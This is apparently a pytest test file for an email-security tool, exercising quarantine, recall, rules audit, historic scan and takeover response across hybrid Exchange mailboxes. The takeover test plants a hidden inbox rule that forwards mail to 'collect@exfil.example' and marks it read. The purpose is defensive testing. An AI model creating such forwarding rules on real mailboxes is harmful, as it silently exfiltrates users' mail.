"""Exchange hybrid: threat response, rules audit and recall cover cloud and on-premises mailboxes.

The on-premises side is the sandbox's EWS endpoint, read by exchangelib. Each flow reports per
side; with bad on-premises credentials the on-premises part fails with a clear reason and the
cloud part still completes.
"""

from __future__ import annotations

from typing import Any

import pytest

from tests._policy import UNATTENDED_RESPONSE, save_policy
from tests.mailbox._onprem import hybrid_tenant

pytestmark = pytest.mark.usefixtures("prefect_harness")


@pytest.fixture
def fast_clients(monkeypatch: pytest.MonkeyPatch) -> None:
    import flows.recall as recall_mod
    import tasks.rules as rules_mod
    from blocks.m365 import M365Tenant
    from mailwarden.graph import RetryPolicy

    original = M365Tenant.graph_client

    def patched(self: Any, tier: str = "basic", **kw: Any) -> Any:
        kw.setdefault("retry", RetryPolicy(max_attempts=4, sleep=lambda s: None))
        return original(self, tier, **kw)

    monkeypatch.setattr(M365Tenant, "graph_client", patched)
    monkeypatch.setattr(rules_mod, "emit_event", lambda **kw: None)
    monkeypatch.setattr(recall_mod, "notify_task", lambda *a, **k: True)


def _hybrid(tenant_factory: Any, embedded: Any, seed: int, password: str | None = None) -> tuple[Any, Any, set[str]]:
    from flows.reconciliation import reconcile_licenses

    block, state, onprem = hybrid_tenant(tenant_factory, embedded, seed=seed, users=16, messages_per_mailbox=4,
                                         phishing_rate=0.2, password=password)
    block.save(block.block_name, overwrite=True)
    save_policy(block, **UNATTENDED_RESPONSE)  # the operator lets these tests act without an approval
    reconcile_licenses(tenant=block.primary_domain)
    return block, state, set(onprem)


def _copies(state: Any, imid: str) -> dict[str, list[str]]:
    """mailbox -> folder ids holding ``imid`` (the sandbox's own state)."""
    out: dict[str, list[str]] = {}
    for mb_id, mb in state.mailboxes.items():
        for it in mb.items.values():
            if it.get("internetMessageId") == imid:
                out.setdefault(mb_id, []).append(it.folder)
    return out


def _campaign(state: Any, onprem: set[str]) -> str:
    imid, copies = max(state.truth.campaigns.items(), key=lambda kv: len(kv[1]))
    boxes = {mb for mb, _ in copies}
    assert boxes & onprem and boxes - onprem, "the seed must spread the campaign over both sides"
    return str(imid)


def test_threat_response_quarantines_copies_on_both_sides_and_restore_undoes_them(tenant_factory: Any, embedded: Any,
                                                          fast_clients: None) -> None:
    from flows.threat_response import ThreatQuery, restore, threat_response
    from mailwarden.mailbox import QUARANTINE_FOLDER

    block, state, onprem = _hybrid(tenant_factory, embedded, seed=2001)
    imid = _campaign(state, onprem)
    before = _copies(state, imid)
    out = threat_response(tenant=block.primary_domain, query=ThreatQuery(internet_message_id=imid),
                          approval="auto")
    assert out["status"] == "done" and out["search_errors"] == {}
    assert {r["side"] for r in out["results"]} == {"cloud", "on-premises"}
    assert all(r["result"] == "done" for r in out["results"])
    after = _copies(state, imid)
    for mb in before:
        names = {state.mailboxes[mb].folders[f]["displayName"] for f in after[mb]}
        assert names == {QUARANTINE_FOLDER}, mb
    undo = restore(tenant=block.primary_domain, flow_run_id=out["flow_run_id"])
    assert {r["side"] for r in undo["results"]} == {"cloud", "on-premises"}
    assert undo["counts"] == {"done": len(out["results"])}
    assert {mb: sorted(f) for mb, f in _copies(state, imid).items()} == {mb: sorted(f) for mb, f in before.items()}


def test_threat_response_bad_onprem_credentials_fail_that_side_only(tenant_factory: Any, embedded: Any,
                                                                    fast_clients: None) -> None:
    from flows.threat_response import ThreatQuery, threat_response
    from mailwarden.mailbox import QUARANTINE_FOLDER

    block, state, onprem = _hybrid(tenant_factory, embedded, seed=2007, password="wrong-password")
    imid = _campaign(state, onprem)
    before = _copies(state, imid)
    out = threat_response(tenant=block.primary_domain, query=ThreatQuery(internet_message_id=imid),
                          approval="auto")
    assert set(out["search_errors"]) == onprem  # every on-premises mailbox, no cloud one
    assert all("refused the credentials" in e for e in out["search_errors"].values())
    assert all("wrong-password" not in e for e in out["search_errors"].values())
    cloud = {mb for mb in before if mb not in onprem}
    assert {r["mailbox"] for r in out["results"]} == cloud
    after = _copies(state, imid)
    for mb in cloud:
        assert {state.mailboxes[mb].folders[f]["displayName"] for f in after[mb]} == {QUARANTINE_FOLDER}
    for mb in set(before) & onprem:
        assert after[mb] == before[mb]  # untouched


def _visible_malicious(state: Any, onprem: set[str]) -> set[tuple[str, str]]:
    return {(mb, rid) for mb, rid in state.truth.malicious_rules if "\\" not in rid}


def test_rules_audit_flags_rules_on_both_sides(tenant_factory: Any, embedded: Any, fast_clients: None) -> None:
    from flows.rules_audit import rules_audit

    block, state, onprem = _hybrid(tenant_factory, embedded, seed=2002)
    out = rules_audit(tenant=block.primary_domain, concurrency=4)
    flagged = {(f["mailbox"], f["graph_id"]) for f in out["suspicious"] if f["graph_id"]}
    planted = _visible_malicious(state, onprem)
    assert {p for p in planted if p[0] in onprem} and planted <= flagged
    assert not out["failed"]


def test_rules_audit_bad_onprem_credentials_fail_with_reason_cloud_recorded(
        tenant_factory: Any, embedded: Any, fast_clients: None) -> None:
    from flows.rules_audit import rules_audit
    from mailwarden.store.repositories import list_rules
    from tasks.common import store_for

    block, state, onprem = _hybrid(tenant_factory, embedded, seed=2003, password="wrong-password")
    with pytest.raises(RuntimeError, match="refused the credentials") as err:
        rules_audit(tenant=block.primary_domain, concurrency=4)
    assert "wrong-password" not in str(err.value)
    assert {mb for mb in onprem if mb in str(err.value)} == onprem
    with store_for(block).session() as s:
        recorded = {r.mailbox_id for r in list_rules(s, block.tenant_id)}
    planted_cloud = {mb for mb, _ in _visible_malicious(state, onprem) if mb not in onprem}
    assert planted_cloud and planted_cloud <= recorded and not recorded & onprem


def test_recall_from_onprem_sender_reaches_both_sides(tenant_factory: Any, embedded: Any,
                                                      fast_clients: None) -> None:
    from flows.recall import recall_message
    from mailwarden.mailbox import QUARANTINE_FOLDER

    block, state, onprem = _hybrid(tenant_factory, embedded, seed=2004)
    fx = state.truth.recall_fixtures[0]
    assert fx["sender"] in onprem  # the sent message is read from Sent Items through EWS
    imid = fx["internet_message_id"]
    before = _copies(state, imid)
    out = recall_message(tenant=block.primary_domain, sender=state.users[fx["sender"]]["mail"],
                         internet_message_id=imid, include_read=True)
    rows = out["results"]
    recalled = {r["mailbox_id"]: r for r in rows if r["status"] == "recalled" and r["internet_message_id"] == imid}
    assert {r["side"] for r in recalled.values()} == {"cloud", "on-premises"}
    assert all(r["side"] == ("on-premises" if mb in onprem else "cloud") for mb, r in recalled.items())
    after = _copies(state, imid)
    for mb in recalled:
        assert QUARANTINE_FOLDER in {state.mailboxes[mb].folders[f]["displayName"] for f in after[mb]}
    assert set(before) - {fx["sender"]} <= set(after)


def test_recall_bad_onprem_credentials_fail_that_side_only(tenant_factory: Any, embedded: Any,
                                                           fast_clients: None) -> None:
    from flows.recall import recall_message

    block, state, onprem = _hybrid(tenant_factory, embedded, seed=2000, password="wrong-password")
    fx = state.truth.recall_fixtures[0]
    assert fx["sender"] not in onprem
    out = recall_message(tenant=block.primary_domain, sender=state.users[fx["sender"]]["mail"],
                         internet_message_id=fx["internet_message_id"], include_read=True)
    rows = [r for r in out["results"] if r["mailbox_id"]]
    on = [r for r in rows if r["mailbox_id"] in onprem]
    cloud = [r for r in rows if r["mailbox_id"] not in onprem]
    assert on and all(r["status"] == "failed" and "refused the credentials" in r["detail"] for r in on)
    assert cloud and any(r["status"] == "recalled" for r in cloud)
    assert all(r["status"] != "failed" for r in cloud)


def _visible(state: Any, mb: str) -> int:
    box = state.mailboxes[mb]
    return sum(1 for i in box.items.values() if not box.in_dumpster(i.folder))


def test_historic_scan_reads_both_sides(tenant_factory: Any, embedded: Any, fast_clients: None) -> None:
    from datetime import UTC, datetime

    from flows.historic_scan import historic_scan

    block, state, onprem = _hybrid(tenant_factory, embedded, seed=2005)
    out = historic_scan(tenant=block.primary_domain, since=datetime(2000, 1, 1, tzinfo=UTC), concurrency=4,
                        retry_delay_seconds=0)
    rows = {r["mailbox"]: r for r in out["rows"]}
    assert not out["failed"] and onprem <= set(rows)
    for mb, r in rows.items():
        assert r["side"] == ("on-premises" if mb in onprem else "cloud")
        assert r["seen"] == _visible(state, mb), mb
    planted = {m for m, _ in state.truth.campaigns[next(iter(state.truth.campaigns))]}
    flagged = {mb for mb, r in rows.items() if r["categories"].get("malicious") or r["categories"].get("suspicious")}
    assert planted & onprem <= flagged


def test_historic_scan_bad_onprem_credentials_fail_that_side_only(tenant_factory: Any, embedded: Any,
                                                                  fast_clients: None) -> None:
    from datetime import UTC, datetime

    from flows.historic_scan import historic_scan

    block, state, onprem = _hybrid(tenant_factory, embedded, seed=2008, password="wrong-password")
    out = historic_scan(tenant=block.primary_domain, since=datetime(2000, 1, 1, tzinfo=UTC), concurrency=4,
                        retry_delay_seconds=0)
    assert set(out["failed"]) == onprem
    assert all("refused the credentials" in e and "wrong-password" not in e for e in out["failed"].values())
    cloud = [r for r in out["rows"] if r["mailbox"] not in onprem]
    assert cloud and all(r["status"] == "done" and r["seen"] == _visible(state, r["mailbox"]) for r in cloud)


def test_takeover_removes_an_onprem_rule_through_ews(tenant_factory: Any, embedded: Any, fast_clients: None,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    import flows.takeover_response as mod

    monkeypatch.setattr(mod, "notify_task", lambda *a, **k: True)
    block, state, onprem = _hybrid(tenant_factory, embedded, seed=2009)
    victim = sorted(onprem)[0]
    box = state.mailboxes[victim]
    rule = box.add_rule({"displayName": ".", "actions": {"forwardTo": [
        {"emailAddress": {"address": "collect@exfil.example"}}], "markAsRead": True}})
    out = mod.takeover_response(tenant=block.primary_domain, user=victim,
                                evidence={"rule_key": f"graph:{rule['id']}", "user": victim},
                                steps=["remove_rules", "forwarding_off", "review_sent_items"])
    res = {s["step"]: s for s in out["steps"]}
    assert res["remove_rules"]["result"] == "done" and rule["id"] not in box.rules
    assert {i.get("via") for i in res["remove_rules"]["items"] if i["result"] == "done"} == {"ews"}
    assert res["forwarding_off"]["result"] == "not_needed" and "on-premises" in res["forwarding_off"]["detail"]
    assert res["review_sent_items"]["result"] == "done"
